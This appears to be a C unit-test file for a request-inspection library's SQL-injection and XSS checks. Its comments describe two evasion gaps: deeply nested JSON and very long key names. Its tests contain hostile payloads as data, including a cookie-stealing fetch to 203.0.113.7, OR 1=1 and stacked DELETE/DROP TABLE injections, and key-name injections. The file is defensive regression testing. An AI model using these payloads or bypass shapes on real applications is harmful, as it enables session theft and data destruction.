/* review24 (session 32), round b on main fb8d351: values of a JSON body
 * that moat_request_add_json never makes inputs, so that no check judges
 * them, in shapes the attacker chooses. Each test fails on fb8d351.
 *
 * 1. A value nested deeper than 32 levels (the walk's bound; past 64 the
 *    text is cut to null before parsing): a rich-text document (Slate,
 *    ProseMirror, Lexical, Portable Text: {"type", "children": [...]})
 *    that the server renders to HTML nests two JSON levels per block, so
 *    a text node in 17 nested blockquotes or list items is at level 35:
 *    `<img src=x onerror=...>` there is allowed by the html check (5
 *    levels: blocked), and the same for a value pasted in SQL. Node's
 *    JSON.parse and Python's json read thousands of levels.
 * 2. A value whose path is 512 bytes or longer (the path buffer; "a
 *    longer path is skipped"): the names are the attacker's when the
 *    application walks an object (a survey's {"answers": {QUESTION:
 *    ANSWER}}, a map of labels): a name of 520 bytes hides its value --
 *    `x' OR 1=1-- ` allowed (a name of 10 or 480 bytes: blocked).
 */
#include "agent_test.h"

static const char pol_all[] = "{\"interceptors\":{\"sql_injection\":{\"mode\":\"block\"},"
                              "\"xss\":{\"mode\":\"block\"}}}";

static char body[65536], page[65536];

static struct moat_request *begin(void)
{
	const struct moat_policy *p = moat_policy_parse(pol_all, 1, NULL, 0);
	struct moat_request_info ri = {.method = "POST", .endpoint = "/posts"};
	struct moat_request *r = NULL;

	assert_non_null(p);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	return r;
}

/* body: a document whose text node (text, JSON-escaped) is in depth
 * nested blocks of kind; page: its rendering */
static void build_doc(int depth, const char *kind, const char *tag, const char *text_json,
                      const char *text_html)
{
	size_t n = 0, m = 0;

	n += (size_t)snprintf(body + n, sizeof body - n, "{\"title\":\"Notes\",\"doc\":");
	m += (size_t)snprintf(page + m, sizeof page - m, "<article><h1>Notes</h1>");
	for (int i = 0; i < depth; i++) {
		n += (size_t)snprintf(body + n, sizeof body - n, "{\"type\":\"%s\",\"children\":[",
		                      kind);
		m += (size_t)snprintf(page + m, sizeof page - m, "<%s>", tag);
	}
	n += (size_t)snprintf(body + n, sizeof body - n, "{\"type\":\"text\",\"text\":\"%s\"}",
	                      text_json);
	m += (size_t)snprintf(page + m, sizeof page - m, "%s", text_html);
	for (int i = 0; i < depth; i++) {
		n += (size_t)snprintf(body + n, sizeof body - n, "]}");
		m += (size_t)snprintf(page + m, sizeof page - m, "</%s>", tag);
	}
	n += (size_t)snprintf(body + n, sizeof body - n, "}");
	m += (size_t)snprintf(page + m, sizeof page - m, "</article>");
	assert_true(n < sizeof body - 1 && m < sizeof page - 1);
}

static int html_of_doc(int depth, const char *kind, const char *tag, const char *text)
{
	struct moat_request *r = begin();
	int v;

	build_doc(depth, kind, tag, text, text);
	(void)moat_request_add_json(r, body, strlen(body));
	v = moat_check_html(r, page, strlen(page));
	moat_request_end(r);
	return v;
}

static void a_value_nested_deeper_than_32_levels_is_judged(void **state)
{
	static const char *const xss[] = {
	    "<img src=x onerror=alert(document.cookie)>",
	    "<svg onload=fetch('//203.0.113.7/'+document.cookie)>",
	};
	static const int depths[] = {5, 17, 20, 40, 80};

	(void)state;
	for (size_t x = 0; x < 2; x++)
		for (size_t d = 0; d < sizeof depths / sizeof depths[0]; d++) {
			if (html_of_doc(depths[d], "blockquote", "blockquote", xss[x]) !=
			    MOAT_BLOCK)
				fail_msg("allowed: %s in %d nested blockquotes", xss[x], depths[d]);
			if (html_of_doc(depths[d], "list-item", "li", xss[x]) != MOAT_BLOCK)
				fail_msg("allowed: %s in %d nested list items", xss[x], depths[d]);
		}
	/* twins: plain text at the same depths */
	for (size_t d = 0; d < sizeof depths / sizeof depths[0]; d++)
		assert_int_equal(html_of_doc(depths[d], "blockquote", "blockquote",
		                             "Tom & Jerry <3 pizza, 5 > 3"),
		                 MOAT_ALLOW);
	/* the same body's text pasted in SQL */
	{
		struct moat_request *r = begin();
		const char *sql = "INSERT INTO notes(text) VALUES ('x' OR 1=1-- ')";
		build_doc(20, "blockquote", "blockquote", "x' OR 1=1-- ", "");
		(void)moat_request_add_json(r, body, strlen(body));
		assert_int_equal(moat_check_sql(r, MOAT_SQL_SQLITE, sql, strlen(sql)), MOAT_BLOCK);
		moat_request_end(r);
	}
}

static int sql_answer(size_t namelen, const char *answer)
{
	struct moat_request *r = begin();
	char name[2048], sql[512];
	int v;

	assert_true(namelen < sizeof name);
	memset(name, 'q', namelen);
	name[namelen] = '\0';
	snprintf(body, sizeof body, "{\"survey\":7,\"answers\":{\"%s\":\"%s\"}}", name, answer);
	snprintf(sql, sizeof sql, "INSERT INTO answers(survey, text) VALUES (7, '%s')", answer);
	(void)moat_request_add_json(r, body, strlen(body));
	v = moat_check_sql(r, MOAT_SQL_SQLITE, sql, strlen(sql));
	moat_request_end(r);
	return v;
}

static void a_value_under_a_long_name_is_judged(void **state)
{
	static const size_t lens[] = {10, 480, 520, 1500};

	(void)state;
	for (size_t i = 0; i < sizeof lens / sizeof lens[0]; i++) {
		if (sql_answer(lens[i], "x' OR 1=1-- ") != MOAT_BLOCK)
			fail_msg("allowed under a name of %zu bytes", lens[i]);
		if (sql_answer(lens[i], "x'); DELETE FROM answers; -- ") != MOAT_BLOCK)
			fail_msg("allowed (stacked) under a name of %zu bytes", lens[i]);
		/* twin */
		assert_int_equal(sql_answer(lens[i], "Mostly yes, twice a week"), MOAT_ALLOW);
	}
}

static int sql_body(const char *json, const char *op)
{
	struct moat_request *r = begin();
	int v;

	(void)moat_request_add_json(r, json, strlen(json));
	v = moat_check_sql(r, MOAT_SQL_SQLITE, op, strlen(op));
	moat_request_end(r);
	return v;
}

/* review24-main.patch's third test: the names of a JSON body are the
 * attacker's too (a column-to-value update, a sort object). Also read so
 * when jansson refuses the body (a trailing comma: the lenient walk). */
static void a_json_name_the_application_uses_is_judged(void **state)
{
	static const char *const tail[] = {"}", ",}"};

	(void)state;
	for (size_t t = 0; t < 2; t++) {
		char b[512];
		snprintf(b, sizeof b, "{\"role='admin' WHERE 1=1 --\": \"x\"%s", tail[t]);
		assert_int_equal(
		    sql_body(b, "UPDATE users SET role='admin' WHERE 1=1 -- = ? WHERE id = 5"),
		    MOAT_BLOCK);
		snprintf(b, sizeof b,
		         "{\"profile\": {\"nick = (SELECT password FROM users WHERE id=1), "
		         "bio\": \"hi\"}%s",
		         tail[t]);
		assert_int_equal(sql_body(b, "UPDATE users SET nick = (SELECT password FROM users "
		                             "WHERE id=1), bio = ? WHERE id = 5"),
		                 MOAT_BLOCK);
		snprintf(b, sizeof b, "{\"sort\": {\"name; DROP TABLE users; --\": 1}%s", tail[t]);
		assert_int_equal(
		    sql_body(b, "SELECT * FROM users ORDER BY name; DROP TABLE users; -- ASC"),
		    MOAT_BLOCK);
		/* twins: ordinary names in the same places */
		snprintf(b, sizeof b, "{\"nick\": \"x\", \"bio\": \"hello\"%s", tail[t]);
		assert_int_equal(sql_body(b, "UPDATE users SET nick = ?, bio = ? WHERE id = 5"),
		                 MOAT_ALLOW);
		snprintf(b, sizeof b, "{\"sort\": {\"created_at\": -1}%s", tail[t]);
		assert_int_equal(sql_body(b, "SELECT * FROM users ORDER BY created_at DESC"),
		                 MOAT_ALLOW);
	}
}

/* A name of letters, digits and '_' alone is one word in every sink: it
 * is not added (the inputs of an ordinary body stay its values). */
static void a_plain_name_adds_no_input(void **state)
{
	struct moat_request *r = begin();
	const char *b = "{\"nick\":\"x\",\"bio\":\"hello\",\"sort\":{\"created_at\":-1},"
	                "\"a b\":1}";

	(void)state;
	assert_int_equal(moat_request_add_json(r, b, strlen(b)), 0);
	/* nick, bio, sort (its text), sort.created_at, "a b" and its value */
	assert_int_equal(moat_request_input_count(r), 6);
	moat_request_end(r);
}

/* The lenient walk (a body jansson refuses: a comment) reaches as deep
 * and under as long a name. */
static void the_lenient_walk_reaches_as_far(void **state)
{
	static const int depths[] = {5, 40, 200};
	char name[1200];

	(void)state;
	for (size_t d = 0; d < sizeof depths / sizeof depths[0]; d++) {
		struct moat_request *r = begin();
		const char *sql = "INSERT INTO notes(text) VALUES ('x' OR 1=1-- ')";
		size_t n;
		build_doc(depths[d], "blockquote", "blockquote", "x' OR 1=1-- ", "");
		n = strlen(body);
		memcpy(body + n, " /* c */", 9);
		(void)moat_request_add_json(r, body, strlen(body));
		assert_int_equal(moat_check_sql(r, MOAT_SQL_SQLITE, sql, strlen(sql)), MOAT_BLOCK);
		moat_request_end(r);
	}
	memset(name, 'q', 1100);
	name[1100] = '\0';
	{
		struct moat_request *r = begin();
		const char *sql = "INSERT INTO answers(text) VALUES ('x' OR 1=1-- ')";
		snprintf(body, sizeof body, "{\"answers\":{\"%s\":\"x' OR 1=1-- \",}}", name);
		(void)moat_request_add_json(r, body, strlen(body));
		assert_int_equal(moat_check_sql(r, MOAT_SQL_SQLITE, sql, strlen(sql)), MOAT_BLOCK);
		moat_request_end(r);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_value_nested_deeper_than_32_levels_is_judged),
	    cmocka_unit_test(a_value_under_a_long_name_is_judged),
	    cmocka_unit_test(a_json_name_the_application_uses_is_judged),
	    cmocka_unit_test(a_plain_name_adds_no_input),
	    cmocka_unit_test(the_lenient_walk_reaches_as_far),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
